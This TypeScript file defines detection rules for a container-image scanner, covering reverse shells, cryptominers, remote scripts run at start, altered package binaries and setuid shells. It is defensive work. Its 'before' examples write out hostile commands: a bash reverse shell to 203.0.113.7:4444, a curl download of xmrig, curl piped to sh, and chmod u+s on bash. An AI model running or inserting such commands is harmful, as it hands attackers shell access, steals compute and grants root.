import { imageRule } from "../image-check.ts";

const advice =
  "Find out which step of the build or which base image added the file. If you did not, treat the image, the build and every secret that it had as compromised.";

export const reverseShell = imageRule({
  id: "SW-IM-reverse-shell",
  name: "ReverseShell",
  severity: "critical",
  summary: "Do not ship scripts that connect a shell to another host.",
  why: "The command gives whoever listens at the address a shell in the container.",
  advice,
  before: "COPY start.sh /usr/local/bin/   # bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
  after: "COPY start.sh /usr/local/bin/   # exec app",
  tags: ["malware", "CWE-506"],
  precision: "very-high",
});

export const cryptominer = imageRule({
  id: "SW-IM-miner",
  name: "Cryptominer",
  severity: "critical",
  summary: "Do not ship programs or scripts that mine cryptocurrencies.",
  why: "Miners are the most frequent payload of compromised images. They use the CPU of whoever runs the image.",
  advice,
  before: "RUN curl -o /usr/bin/xmrig https://example.com/xmrig",
  after: "# no miner",
  tags: ["malware", "CWE-506"],
  precision: "very-high",
});

export const remoteScript = imageRule({
  id: "SW-IM-remote-script",
  name: "RemoteScriptAtStart",
  severity: "high",
  summary: "Do not run a script from the network when the container starts.",
  why: "What the container runs is then not in the image. Whoever controls the address or the network controls the container, and no scan sees it.",
  advice: "Download the script during the build, verify its digest, and run the file.",
  before: 'CMD ["sh", "-c", "curl -fsSL https://example.com/start.sh | sh"]',
  after: 'ADD --checksum=sha256:24454f83… https://example.com/start.sh /start.sh\nCMD ["/start.sh"]',
  tags: ["CWE-494", "CWE-829"],
  precision: "very-high",
});

export const changedProgram = imageRule({
  id: "SW-IM-changed-program",
  name: "ChangedProgram",
  severity: "high",
  summary: "Do not change programs and libraries that a package installed.",
  why: "The file is not what the package's database says. It may have been replaced, and an update of the package overwrites it without a trace.",
  advice,
  before: "COPY sshd /usr/sbin/sshd",
  after: "COPY sshd /usr/local/sbin/sshd",
  tags: ["CWE-353", "CWE-506"],
  precision: "high",
});

export const setuidShell = imageRule({
  id: "SW-IM-setuid-shell",
  name: "SetuidShell",
  severity: "high",
  summary: "Do not give the setuid bit to programs that run commands or write files.",
  why: "No distribution ships these programs with the bit. Whoever can call one is root in the container.",
  advice: "Remove the bit: `chmod u-s FILE`.",
  before: "RUN chmod u+s /bin/bash",
  after: "# no setuid bit",
  tags: ["CWE-250", "CWE-269"],
  precision: "very-high",
});

export const tamperingRules = [reverseShell, cryptominer, remoteScript, changedProgram, setuidShell];
